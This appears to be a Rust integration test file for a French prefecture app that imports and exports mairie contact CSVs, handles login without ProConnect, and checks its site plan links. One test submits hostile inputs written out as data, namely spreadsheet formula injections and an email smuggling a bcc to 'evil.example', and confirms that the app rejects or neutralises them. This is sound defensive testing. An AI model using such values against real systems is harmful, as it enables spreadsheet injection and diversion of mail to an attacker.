#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_prefecture_sets_its_own_contacts_of_the_mairies() {
    let app = TestApp::start().await;
    let mut cell = Browser::new(&app);
    cell.login(&app.issue(Role::Prefecture, None).await).await;
    let page = cell.get("/prefecture/contacts").await;
    assert_eq!(page.status, StatusCode::OK, "{}", page.text);
    let csrf = csrf_of(&page.text);
    let list = cell.get("/prefecture/contacts.csv").await;
    assert_eq!(list.status, StatusCode::OK);
    let mut lines: Vec<String> = list.text.lines().map(str::to_owned).collect();
    assert_eq!(lines[0], "code_commune,nom_commune,telephone,email,source");
    assert_eq!(lines.len(), 250, "a line per commune");
    let allaire = lines
        .iter()
        .position(|l| l.starts_with("56001,"))
        .expect("Allaire");
    assert_eq!(
        lines[allaire],
        "56001,Allaire,02 99 71 91 09,mairie@allaire.bzh,annuaire"
    );

    // A wrong file: every problem with its line; nothing kept. Addresses
    // are read by the mail library: a formula, a second address hidden in a
    // query, a display name are not an address.
    let wrong = "code_commune,telephone,email\n56001,02 99 00 00 00,secretariat.allaire.bzh\n\
                 99999,,\n56001,,\n56003,,=HYPERLINK(1)@a.fr\n\
                 56004,,m@a.fr?bcc=x@evil.example\n56005,,Maire <m@a.fr>\n\
                 56006,=1+2,\n";
    let refused = cell
        .post_multipart(
            "/prefecture/contacts",
            &[("csrf", &csrf), ("departement", "56")],
            ("fichier", "contacts.csv", wrong.as_bytes()),
        )
        .await;
    assert_eq!(refused.status, StatusCode::UNPROCESSABLE_ENTITY);
    for expected in [
        "Ligne 2 : « secretariat.allaire.bzh » n&#39;est pas une adresse électronique",
        "Ligne 3 : « 99999 » n&#39;est pas le code INSEE d&#39;une commune du département.",
        "Ligne 4 : Allaire (56001) figure déjà plus haut.",
        "Ligne 5 : « =HYPERLINK(1)@a.fr » n&#39;est pas une adresse électronique",
        "Ligne 6 : « m@a.fr?bcc=x@evil.example » n&#39;est pas une adresse électronique",
        "Ligne 7 : « Maire &lt;m@a.fr&gt; » n&#39;est pas une adresse électronique",
        "Ligne 8 : « =1+2 » n&#39;est pas un numéro de téléphone",
    ] {
        assert!(
            refused.text.contains(expected),
            "« {expected} » in {}",
            refused.text
        );
    }
    assert_eq!(app.store().contacts("56").await.expect("read"), None);

    // The downloaded list with Allaire's line changed goes back as it is.
    lines[allaire] = "56001,Allaire,02 99 71 00 00,secretariat@allaire.bzh,annuaire".to_owned();
    let changed = lines.join("\n");
    let imported = cell
        .post_multipart(
            "/prefecture/contacts",
            &[("csrf", &csrf), ("departement", "56")],
            ("fichier", "contacts.csv", changed.as_bytes()),
        )
        .await;
    assert_eq!(imported.status, StatusCode::OK, "{}", imported.text);
    assert!(imported
        .text
        .contains("Fichier importé : 1 mairie a des contacts propres à la préfecture."));
    let kept = app
        .store()
        .contacts("56")
        .await
        .expect("read")
        .expect("kept");
    assert_eq!(
        kept.contacts.into_iter().collect::<Vec<_>>(),
        [(
            "56001".to_owned(),
            (
                "02 99 71 00 00".to_owned(),
                "secretariat@allaire.bzh".to_owned()
            )
        )]
    );
    let day = cell.get("/prefecture?date=2020-04-01").await;
    assert!(day.text.contains("mailto:secretariat@allaire.bzh"));
    assert!(day.text.contains("tel:0299710000"));
    assert!(!day.text.contains("mailto:mairie@allaire.bzh"));
    let again = cell.get("/prefecture/contacts.csv").await;
    assert!(again
        .text
        .contains("56001,Allaire,02 99 71 00 00,secretariat@allaire.bzh,prefecture"));

    // Every cell of the export is safe in a spreadsheet, and the file goes
    // back as it is: what the prefecture typed is what is kept.
    let typed = (
        "+33 2 99 71 00 00".to_owned(),
        "=secretariat@allaire.bzh".to_owned(),
    );
    app.store()
        .put_contacts(&decompte_store::ContactOverrides {
            departement: "56".into(),
            contacts: [("56001".to_owned(), typed.clone())].into_iter().collect(),
            imported_at: chrono::Utc::now(),
            imported_by: "test".into(),
        })
        .await
        .expect("contacts");
    let exported = cell.get("/prefecture/contacts.csv").await.text;
    assert!(
        exported
            .contains("\n56001,Allaire,'+33 2 99 71 00 00,'=secretariat@allaire.bzh,prefecture"),
        "{exported}"
    );
    let back = cell
        .post_multipart(
            "/prefecture/contacts",
            &[("csrf", &csrf), ("departement", "56")],
            ("fichier", "contacts.csv", exported.as_bytes()),
        )
        .await;
    assert_eq!(back.status, StatusCode::OK, "{}", back.text);
    let kept = app
        .store()
        .contacts("56")
        .await
        .expect("read")
        .expect("kept");
    assert_eq!(kept.contacts.get("56001"), Some(&typed));
    let day = cell.get("/prefecture?date=2020-04-01").await;
    assert!(day.text.contains("tel:+33299710000"), "{}", day.text);

    // A mairie has nothing to do here.
    let mut mayor = Browser::new(&app);
    mayor
        .login(&app.issue(Role::Commune, Some("56260")).await)
        .await;
    assert_ne!(
        mayor.get("/prefecture/contacts").await.status,
        StatusCode::OK
    );
    assert_ne!(
        mayor.get("/prefecture/contacts.csv").await.status,
        StatusCode::OK
    );
}

/// Without ProConnect configured, the login page offers only the codes,
/// and its addresses say so in French.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn without_proconnect_only_codes_open_the_app() {
    let app = TestApp::start().await;
    let login = app.get("/connexion", None).await;
    assert!(!login.text.contains("ProConnect"));
    for path in [
        "/connexion/proconnect",
        "/connexion/proconnect/retour?code=a&state=b",
    ] {
        let answer = app.get(path, None).await;
        assert_eq!(answer.status, StatusCode::NOT_FOUND, "{path}");
        assert!(
            answer.text.contains("utilisez votre code d"),
            "{}",
            answer.text
        );
    }
}

/// The app's plan lists the pages a code opens, and every one of them opens
/// for it (the RGAA's second way to find a page, criterion 12.1).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_plan_leads_to_every_page_a_code_opens() {
    let app = TestApp::start().await;
    let links = |html: &str| -> Vec<String> {
        html.split("href=\"")
            .skip(1)
            .filter_map(|rest| rest.split('"').next())
            .filter(|href| href.starts_with('/') && !href.starts_with("/app/"))
            .map(|href| href.replace("&amp;", "&"))
            .collect()
    };
    let anonymous = Browser::new(&app).get("/plan").await;
    assert_eq!(anonymous.status, StatusCode::OK);
    assert!(anonymous.text.contains("href=\"/connexion\""));
    for (role, commune, pages) in [
        (Role::Prefecture, None, 10),
        (Role::Commune, Some("56260"), 4),
    ] {
        let code = app.issue(role, commune).await;
        let mut browser = Browser::new(&app);
        browser.login(&code).await;
        let plan = browser.get("/plan").await;
        assert_eq!(plan.status, StatusCode::OK);
        let found: Vec<String> = links(&plan.text)
            .into_iter()
            // The public site ("/" here) is not the app's.
            .filter(|l| !l.starts_with("/#") && l != "/plan" && l != "/")
            .collect();
        assert!(found.len() >= pages, "{role:?}: {found:?}");
        for link in found {
            let page = browser.get(&link).await;
            assert_eq!(
                page.status,
                StatusCode::OK,
                "{role:?} {link}: {}",
                page.text
            );
        }
    }
}
